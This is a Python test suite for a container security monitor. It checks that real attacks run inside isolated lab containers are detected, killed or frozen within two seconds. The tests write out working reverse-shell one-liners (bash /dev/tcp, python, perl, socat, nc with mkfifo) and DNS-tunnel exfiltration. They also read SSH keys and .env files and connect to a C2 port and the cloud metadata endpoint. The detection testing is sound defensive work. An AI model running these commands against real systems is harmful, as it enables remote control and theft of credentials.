"""The security monitor (issue 20) against real attacks: each runs inside a real coi container (a fresh
`coi run` with [monitoring] enabled) against listeners in netlab's "outside" namespace, which this module
builds; no packet leaves for a real address. Each attack must be detected at its level, with its action
(CRITICAL: killed, HIGH: frozen), within 2 s; the latency is measured from the attack's first command
(its time taken inside the container, the same clock) to the event's timestamp in the audit log, and
printed (pytest -s shows it)."""
import datetime
import json
import subprocess
import time

import pytest

from monitorlab import IMAGE, lab, menv  # noqa: F401
from netlab import OUT_METADATA, OUT_PRIVATE, OUT_PUBLIC, PORT, ns_popen, wait_until

LATENCY = {}

# Accepts on every port given, reads and discards whatever comes, sends "id" once, keeps the connection.
LISTENER = r"""
import select, socket, sys
ls = []
for port in map(int, sys.argv[2:]):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], port)); s.listen(8); ls.append(s)
conns = []
while True:
    r, _, _ = select.select(ls + conns, [], [], 1)
    for s in r:
        if s in ls:
            c, _ = s.accept(); conns.append(c)
            try: c.sendall(b"id\n")
            except OSError: pass
        else:
            try: d = s.recv(1 << 20)
            except OSError: d = b""
            if not d: conns.remove(s); s.close()
"""
PORTS = list(range(7001, 7011)) + [4444]


@pytest.fixture(scope="module")
def listeners(lab):  # noqa: F811
    p = ns_popen(lab.outside, ["python3", "-c", LISTENER, OUT_PUBLIC, *map(str, PORTS)])
    o = ["nsenter", "-t", str(lab.outside), "-n", "ss", "-Hltn"]
    assert wait_until(lambda: all(f"{OUT_PUBLIC}:{port} " in subprocess.run(o, capture_output=True, text=True).stdout
                                  for port in PORTS), 60), "the listeners did not start"
    yield
    p.kill()
    p.wait()


@pytest.fixture(scope="module", autouse=True)
def report():
    yield
    if LATENCY:
        print("\nmonitor detection latency (attack start -> event in the audit log):")
        for k, v in LATENCY.items():
            print(f"  {k:28s} {v * 1000:7.0f} ms")


def ts(s):
    return datetime.datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()


def attack(menv, script, title, level, action, key, t0=None, args=()):  # noqa: F811
    """Runs script in a fresh container (stamping its start in /workspace/.t0), waits up to 10 s for an
    event titled title; checks level, action and the container's state; returns the event."""
    t0_file = menv.ws / ".t0"
    t0_file.unlink(missing_ok=True)
    audit = menv.base / "home" / ".coi" / "audit"
    # lines already in each log (a slot's name comes back, and with it its log)
    before = {f.name: len(f.read_text().splitlines()) for f in audit.glob("*.jsonl")} if audit.exists() else {}
    p = menv.popen("run", "--image", IMAGE, *args, "--", "bash", "-c", f"date +%s.%N > /workspace/.t0; {script}; sleep 30")
    event, name = None, None
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline and event is None:
        for f in audit.glob("*.jsonl") if audit.exists() else []:
            for line in f.read_text().splitlines()[before.get(f.name, 0):]:
                e = json.loads(line)
                if e["title"] == title:
                    event, name = e, f.name[:-len(".jsonl")]
        time.sleep(0.05)
    try:
        assert event, f"no '{title}' event; coi run said: {p.poll()} " + (
            p.communicate(timeout=1)[1] if p.poll() is not None else "")
        assert (event["level"], event["action"]) == (level, action), event
        assert t0_file.exists()
        latency = ts(event["timestamp"]) - (t0() if t0 else float(t0_file.read_text()))
        LATENCY[key] = latency
        assert latency < 2.0, f"{key}: detected after {latency:.2f} s"
        info = menv.coi("container", "info", name, "--format", "json")
        if action == "killed":
            # the container is gone or stopped, and `coi run` ended
            assert p.wait(timeout=30) != 0
            assert info.returncode != 0 or json.loads(info.stdout).get("status") != "running"
        elif action == "paused":
            assert json.loads(info.stdout)["status"] == "paused"
            assert p.poll() is None  # the session waits, frozen
            # what the user is told to look at shows it
            snap = json.loads(menv.coi("monitor", name, "--format", "json").stdout)
            assert snap["status"] == "paused" and snap["monitor"]["running"]
            assert event["id"] in [t["id"] for t in snap["threats"]]
            audit_lines = menv.coi("audit", name, "--level", "high", "--format", "json").stdout.splitlines()
            assert event["id"] in [json.loads(line)["id"] for line in audit_lines]
            assert all(json.loads(line)["level"] in ("high", "critical") for line in audit_lines)
            assert menv.coi("unfreeze", name).returncode == 0
            assert json.loads(menv.coi("container", "info", name, "--format", "json").stdout)["status"] == "running"
        # the workspace is untouched
        assert (menv.ws / "README").read_text() == "hello\n"
        return event, name
    finally:
        if p.poll() is None:
            if name:
                menv.coi("kill", "-f", name)
            p.kill()
        p.wait(timeout=60)


def test_reverse_shell_bash_dev_tcp(menv, listeners):  # noqa: F811
    e, _ = attack(menv, f"bash -i >& /dev/tcp/{OUT_PUBLIC}/7001 0>&1", "Reverse shell detected", "critical",
                  "killed", "bash /dev/tcp")
    assert e["evidence"]["process"]["remote_addr"] == f"{OUT_PUBLIC}:7001"


def test_reverse_shell_python_pty(menv, listeners):  # noqa: F811
    py = ("import socket,os,pty;s=socket.create_connection(('%s',7002));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" % OUT_PUBLIC)
    e, _ = attack(menv, f'python3 -c "{py}"', "Reverse shell detected", "critical", "killed", "python pty")
    assert "python3" in e["evidence"]["process"]["executable"]


def test_reverse_shell_perl(menv, listeners):  # noqa: F811
    pl = ('use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(q(tcp)));'
          'connect(S,sockaddr_in(7003,inet_aton(q(%s))));open(STDIN,q(>&S));open(STDOUT,q(>&S));'
          'open(STDERR,q(>&S));exec(q(/bin/sh -i));' % OUT_PUBLIC)
    attack(menv, f"perl -e '{pl}'", "Reverse shell detected", "critical", "killed", "perl")


def test_reverse_shell_renamed_copy_of_bash(menv, listeners):  # noqa: F811
    e, _ = attack(menv, f"cp /bin/bash /tmp/kworker && exec /tmp/kworker -i >& /dev/tcp/{OUT_PUBLIC}/7004 0>&1",
                  "Reverse shell detected", "critical", "killed", "renamed bash copy")
    assert e["evidence"]["process"]["executable"] == "/tmp/kworker"


def test_reverse_shell_socat(menv, listeners):  # noqa: F811
    attack(menv, f"socat TCP:{OUT_PUBLIC}:7005 EXEC:'/bin/sh -i',nofork", "Reverse shell detected", "critical",
           "killed", "socat exec")


def test_reverse_shell_nc_fifo(menv, listeners):  # noqa: F811
    e, _ = attack(menv, f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {OUT_PUBLIC} 7006 > /tmp/f",
                  "Reverse shell detected", "critical", "killed", "nc + mkfifo")
    assert e["evidence"]["process"]["pattern"] == "shell-piped-to-socket"


def test_large_upload_freezes(menv, listeners):  # noqa: F811
    py = ("import socket;s=socket.create_connection(('%s',7007));s.sendall(b'x'*50000000);"
          "import time;time.sleep(20)" % OUT_PUBLIC)
    e, _ = attack(menv, f'python3 -c "{py}"', "Large upload", "high", "paused", "50 MB upload")
    assert e["evidence"]["network"]["sent_bytes"] >= 20_000_000


def test_dns_tunnel_freezes(menv, listeners):  # noqa: F811
    # each query's start in /workspace/.q; the detection counts from the query that crosses the
    # threshold (20 unique names under one domain within a minute)
    (menv.ws / ".q").unlink(missing_ok=True)
    script = ("for i in $(seq 40); do date +%s.%N >> /workspace/.q; getent hosts $(head -c 20 /dev/urandom | od -An "
              "-tx1 | tr -d ' \\n').x.exfil.test >/dev/null; done")
    e, _ = attack(menv, script, "DNS tunnelling suspected", "high", "paused", "DNS tunnel (20th name)",
                  t0=lambda: float((menv.ws / ".q").read_text().split()[19]))
    assert e["evidence"]["dns"]["domain"] == "exfil.test"
    first = float((menv.ws / ".q").read_text().split()[0])
    LATENCY["DNS tunnel (from 1st name)"] = ts(e["timestamp"]) - first


def test_ssh_key_scan_freezes(menv, listeners):  # noqa: F811
    (menv.ws / "keys").mkdir(exist_ok=True)
    setup = ("mkdir -p ~/.ssh && for k in id_rsa id_ecdsa id_ed25519; do echo secret > ~/.ssh/$k; done; "
             "date +%s.%N > /workspace/.t0")
    e, _ = attack(menv, f"{setup}; cat ~/.ssh/* > /dev/null", "Credential scan", "high", "paused", "~/.ssh scan")
    assert e["evidence"]["filesystem"]["kind"] == "ssh key"


def test_env_file_scan_freezes(menv, listeners):  # noqa: F811
    setup = ("echo A=1 > /workspace/.env; echo B=2 > /workspace/.env.local; echo C=3 > /workspace/.env.production; "
             "date +%s.%N > /workspace/.t0")
    attack(menv, f"{setup}; cat /workspace/.env* /proc/*/environ > /dev/null 2>&1", "Credential scan", "high",
           "paused", ".env + environ scan")
    for f in (".env", ".env.local", ".env.production"):
        (menv.ws / f).unlink()


# Connections are seen by the 250 ms sock_diag tick: these hold theirs for a second, as a session would.
HOLD = "import socket,time;s=socket.create_connection(('%s',%d));time.sleep(1.5)"


def test_connection_to_a_c2_port_freezes(menv, listeners):  # noqa: F811
    e, _ = attack(menv, f'python3 -c "{HOLD % (OUT_PUBLIC, 4444)}"', "Connection to a C2 port", "high", "paused",
                  "C2 port 4444")
    assert e["evidence"]["network"]["remote_addr"] == f"{OUT_PUBLIC}:4444"


def test_connection_to_the_metadata_endpoint_freezes(menv, listeners):  # noqa: F811
    # open mode: restricted mode's firewall already refuses it (test_shim_network)
    attack(menv, f'python3 -c "{HOLD % (OUT_METADATA, PORT)}"', "Connection to the cloud metadata endpoint", "high",
           "paused", "metadata endpoint", args=("--network", "open"))


def test_connection_to_a_private_network_is_a_warning(menv, listeners):  # noqa: F811
    attack(menv, f'python3 -c "{HOLD % (OUT_PRIVATE, PORT)}"', "Connection to a private network", "warning",
           "alerted", "private network", args=("--network", "open"))
